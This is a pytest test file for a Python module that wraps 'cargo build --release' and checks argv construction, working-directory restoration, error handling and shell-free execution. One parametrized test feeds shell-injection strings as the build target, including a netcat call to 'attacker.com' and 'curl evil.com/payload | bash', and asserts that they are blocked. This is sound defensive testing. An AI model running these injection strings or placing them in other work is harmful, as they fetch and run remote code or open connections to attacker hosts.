from __future__ import annotations

import os
import re
import subprocess
from pathlib import Path

import pytest

import pkr_build
from pkr_build import DownstreamBuildError
from pkr_validate import FolderNotFound, InvalidTarget


class FakeRunner:
    """Records calls instead of starting cargo."""

    def __init__(self, returncode: int = 0, stdout: str = "", stderr: str = "", exc=None):
        self.returncode = returncode
        self.stdout = stdout
        self.stderr = stderr
        self.exc = exc
        self.calls: list[tuple[list[str], dict, str]] = []

    def __call__(self, cmd, **kwargs):
        self.calls.append((cmd, kwargs, os.getcwd()))
        if self.exc is not None:
            raise self.exc
        return subprocess.CompletedProcess(cmd, self.returncode, self.stdout, self.stderr)


def test_build_command_without_target() -> None:
    assert pkr_build.build_command() == ["cargo", "build", "--release"]


def test_build_command_with_target_is_discrete_argv() -> None:
    assert pkr_build.build_command("aarch64-apple-darwin") == [
        "cargo",
        "build",
        "--release",
        "--target",
        "aarch64-apple-darwin",
    ]


def test_build_runs_in_output_folder_with_argv(tmp_path: Path, restore_cwd: str) -> None:
    runner = FakeRunner()
    result = pkr_build.build_portable(str(tmp_path), "x86_64-unknown-linux-gnu", runner=runner)

    assert result.returncode == 0
    assert len(runner.calls) == 1
    cmd, kwargs, cwd = runner.calls[0]
    assert cmd == ["cargo", "build", "--release", "--target", "x86_64-unknown-linux-gnu"]
    assert kwargs["shell"] is False
    assert kwargs["capture_output"] is True
    assert Path(cwd) == tmp_path.resolve()
    assert os.getcwd() == restore_cwd


def test_build_without_target_uses_host_default(tmp_path: Path) -> None:
    runner = FakeRunner()
    pkr_build.build_portable(tmp_path, None, runner=runner)
    assert runner.calls[0][0] == ["cargo", "build", "--release"]


@pytest.mark.parametrize(
    "malicious",
    [
        "; rm -rf /tmp/test",
        "| nc attacker.com 1234",
        "$(curl evil.com/payload | bash)",
        "`id`",
        "&& echo pwned",
    ],
)
def test_malicious_target_blocked_before_running(tmp_path: Path, malicious: str) -> None:
    runner = FakeRunner()
    with pytest.raises(InvalidTarget, match="Invalid target"):
        pkr_build.build_portable(str(tmp_path), malicious, runner=runner)
    assert runner.calls == []


def test_invalid_folder_blocked(restore_cwd: str) -> None:
    runner = FakeRunner()
    with pytest.raises(FolderNotFound):
        pkr_build.build_portable("/nonexistent/path", None, runner=runner)
    assert runner.calls == []
    assert os.getcwd() == restore_cwd


def test_nonzero_exit_raises_with_output_and_restores_cwd(
    tmp_path: Path, restore_cwd: str
) -> None:
    runner = FakeRunner(returncode=101, stdout="Compiling", stderr="error[E0425]")
    with pytest.raises(DownstreamBuildError, match="exit code 101") as excinfo:
        pkr_build.build_portable(tmp_path, None, runner=runner)

    assert excinfo.value.returncode == 101
    assert excinfo.value.stdout == "Compiling"
    assert excinfo.value.stderr == "error[E0425]"
    assert os.getcwd() == restore_cwd


def test_missing_build_tool_raises_and_restores_cwd(tmp_path: Path, restore_cwd: str) -> None:
    runner = FakeRunner(exc=FileNotFoundError("cargo"))
    with pytest.raises(DownstreamBuildError, match="Build tool not found"):
        pkr_build.build_portable(tmp_path, None, runner=runner)
    assert os.getcwd() == restore_cwd


def test_working_directory_restores_after_exception(tmp_path: Path, restore_cwd: str) -> None:
    with pytest.raises(RuntimeError):
        with pkr_build.working_directory(tmp_path):
            assert Path(os.getcwd()) == tmp_path.resolve()
            raise RuntimeError("boom")
    assert os.getcwd() == restore_cwd


def test_working_directory_restores_after_success(tmp_path: Path, restore_cwd: str) -> None:
    with pkr_build.working_directory(tmp_path) as path:
        assert path == tmp_path
    assert os.getcwd() == restore_cwd


def test_build_module_never_uses_a_shell(repo_root: Path) -> None:
    content = (repo_root / "pkr_build.py").read_text(encoding="utf-8")
    assert not re.search(r"os\.system\(", content)
    assert not re.search(r"shell\s*=\s*True", content)
    assert "shell=False" in content
